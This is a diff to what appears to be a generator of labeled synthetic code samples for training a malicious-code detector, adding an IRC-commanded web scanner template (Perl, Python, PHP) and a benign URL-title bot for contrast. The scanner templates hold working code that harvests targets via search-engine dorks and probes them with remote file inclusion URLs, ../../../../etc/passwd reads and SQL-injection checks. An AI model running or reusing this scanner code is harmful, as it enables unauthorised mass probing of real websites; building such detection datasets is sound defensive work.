@@ -615,6 +615,88 @@ def b_so_build(g):
     return code
 
 
+# ---------------------------------------------------------------------------
+# round 5 (branch scripts4): IRC-commanded web scanners, and the URL-title bot
+# that fetches pages too. Written from the technique, not from samples.
+
+
+def t_irc_scanner(g):
+    """An IRC bot that takes a dork from the channel, asks a search engine for
+    targets, probes each for an RFI/LFI/SQL injection and reports hits."""
+    r = g.rng
+    v = {"h": r.choice(["irc.example.invalid", _ip(r)]), "port": r.choice([6667, 7000, 8080]),
+         "nick": r.choice(["scan", "x", "dork"]) + str(r.randint(10, 999)), "ch": r.choice(["#scan", "#x", "#dork"]),
+         "se": r.choice(["http://www.google.com/search?q=", "http://www.bing.com/search?q=",
+                         "http://search.yahoo.com/search?p=", "http://www.ask.com/web?q="]),
+         "rfi": r.choice(["http://" + _ip(r) + "/id.txt?", "http://x.example.invalid/t.gif?"]),
+         "chk": r.choice(["root:x:0:0", "You have an error in your SQL syntax", "mysql_fetch_array"])}
+    style = r.choice(["pl", "py", "php"])
+    if style == "pl":
+        code = ("#!/usr/bin/perl\nuse IO::Socket::INET;\nuse LWP::UserAgent;\n"
+                "my $s = IO::Socket::INET->new(PeerAddr => '%(h)s', PeerPort => %(port)d) or die;\n"
+                "print $s \"NICK %(nick)s\\r\\nUSER %(nick)s 0 * :%(nick)s\\r\\nJOIN %(ch)s\\r\\n\";\n"
+                "my $ua = LWP::UserAgent->new(timeout => 8);\n"
+                "while (my $l = <$s>) {\n  print $s \"PONG $1\\r\\n\" if $l =~ /^PING (.*)/;\n"
+                "  if ($l =~ /PRIVMSG (\\S+) :!scan (.+)/) { my ($c, $d) = ($1, $2);\n"
+                "    my $res = $ua->get('%(se)s' . $d)->content;\n"
+                "    while ($res =~ m{href=\"(http://[^\"]+\\?[^\"=]+=)}g) { my $u = $1;\n"
+                "      my $t = $ua->get($u . '%(rfi)s')->content . $ua->get($u . '../../../../etc/passwd')->content;\n"
+                "      print $s \"PRIVMSG $c :vuln $u\\r\\n\" if $t =~ /%(chk)s/;\n    }\n  }\n}\n")
+    elif style == "py":
+        code = ("#!/usr/bin/env python3\nimport socket, re, urllib.request, urllib.parse\n"
+                "s = socket.create_connection(('%(h)s', %(port)d))\n"
+                "s.send(b'NICK %(nick)s\\r\\nUSER %(nick)s 0 * :%(nick)s\\r\\nJOIN %(ch)s\\r\\n')\n"
+                "def get(u):\n    try:\n        return urllib.request.urlopen(u, timeout=8).read().decode('latin-1')\n"
+                "    except Exception:\n        return ''\n"
+                "for line in s.makefile('r', encoding='latin-1'):\n"
+                "    if line.startswith('PING'):\n        s.send(('PONG' + line[4:]).encode())\n"
+                "    m = re.search(r'PRIVMSG (\\S+) :\\.scan (.+)', line)\n    if not m:\n        continue\n"
+                "    page = get('%(se)s' + urllib.parse.quote(m.group(2).strip()))\n"
+                "    for u in re.findall(r'href=\"(http://[^\"]+\\?\\w+=)', page):\n"
+                "        if '%(chk)s' in get(u + \"1%%27\") + get(u + '../../../../etc/passwd'):\n"
+                "            s.send(('PRIVMSG %%s :found %%s\\r\\n' %% (m.group(1), u)).encode())\n")
+    else:
+        code = ("<?php\nset_time_limit(0);\n$s = fsockopen('%(h)s', %(port)d);\n"
+                "fputs($s, \"NICK %(nick)s\\r\\nUSER %(nick)s 0 * :%(nick)s\\r\\nJOIN %(ch)s\\r\\n\");\n"
+                "while (!feof($s)) { $l = fgets($s, 1024);\n"
+                "  if (substr($l, 0, 4) == 'PING') fputs($s, 'PONG' . substr($l, 4));\n"
+                "  if (preg_match('/PRIVMSG (\\S+) :@scan (.+)/', $l, $m)) {\n"
+                "    $page = @file_get_contents('%(se)s' . urlencode(trim($m[2])));\n"
+                "    preg_match_all('#href=\"(http://[^\"]+\\?\\w+=)#', $page, $u);\n"
+                "    foreach ($u[1] as $t) { $r = @file_get_contents($t . '%(rfi)s');\n"
+                "      if (strpos($r, '%(chk)s') !== false) fputs($s, \"PRIVMSG $m[1] :hit $t\\r\\n\"); }\n  }\n}\n")
+    g.lang = style
+    return code % v
+
+
+def b_url_title_bot(g):
+    """A channel's URL-title bot: fetches links posted in the channel and says their title."""
+    r = g.rng
+    v = {"h": r.choice(["irc.libera.chat", "irc.example.org"]), "ch": r.choice(["#proj", "#dev"]),
+         "nick": r.choice(["titlebot", "linkbot"])}
+    code = r.choice([
+        "#!/usr/bin/perl\nuse strict;\nuse IO::Socket::INET;\nuse LWP::UserAgent;\n"
+        "my $s = IO::Socket::INET->new(PeerAddr => '%(h)s', PeerPort => 6667) or die;\n"
+        "print $s \"NICK %(nick)s\\r\\nUSER %(nick)s 0 * :titles\\r\\nJOIN %(ch)s\\r\\n\";\n"
+        "my $ua = LWP::UserAgent->new(timeout => 5, max_size => 65536);\n"
+        "while (my $l = <$s>) {\n  print $s \"PONG $1\\r\\n\" if $l =~ /^PING (.*)/;\n"
+        "  if ($l =~ m{PRIVMSG (#\\S+) :.*?(https?://\\S+)}) { my ($c, $u) = ($1, $2);\n"
+        "    my $r = $ua->get($u);\n    next unless $r->is_success;\n"
+        "    print $s \"PRIVMSG $c :title: $1\\r\\n\" if $r->decoded_content =~ m{<title>(.*?)</title>}si;\n  }\n}\n",
+        "#!/usr/bin/env python3\nimport re, socket, urllib.request\n"
+        "s = socket.create_connection(('%(h)s', 6667))\n"
+        "s.send(b'NICK %(nick)s\\r\\nUSER %(nick)s 0 * :titles\\r\\nJOIN %(ch)s\\r\\n')\n"
+        "for line in s.makefile('r', encoding='utf-8', errors='replace'):\n"
+        "    if line.startswith('PING'):\n        s.send(('PONG' + line[4:]).encode())\n"
+        "    m = re.search(r'PRIVMSG (#\\S+) :.*?(https?://\\S+)', line)\n"
+        "    if m:\n        html = urllib.request.urlopen(m.group(2), timeout=5).read(65536).decode('utf-8', 'replace')\n"
+        "        t = re.search(r'<title>(.*?)</title>', html, re.S)\n"
+        "        if t:\n            s.send(('PRIVMSG %%s :%%s\\r\\n' %% (m.group(1), t.group(1).strip())).encode())\n",
+    ])
+    g.lang = "pl" if "perl" in code else "py"
+    return code % v
+
+
 def _lang_of(fn):
     """The extension is decided by the template's choice (g.lang)."""
     return fn
@@ -640,6 +722,8 @@ BOT_TEMPLATES = [
     ("basic_brute", t_basic_brute, "malicious", "auto", "high"),
     ("config_poller", b_config_poller, "benign", "auto", "none"),
     ("so_build", b_so_build, "benign", "auto", "none"),
+    ("irc_scanner", t_irc_scanner, "malicious", "auto", "high"),
+    ("url_title_bot", b_url_title_bot, "benign", "auto", "none"),
 ]
 
 
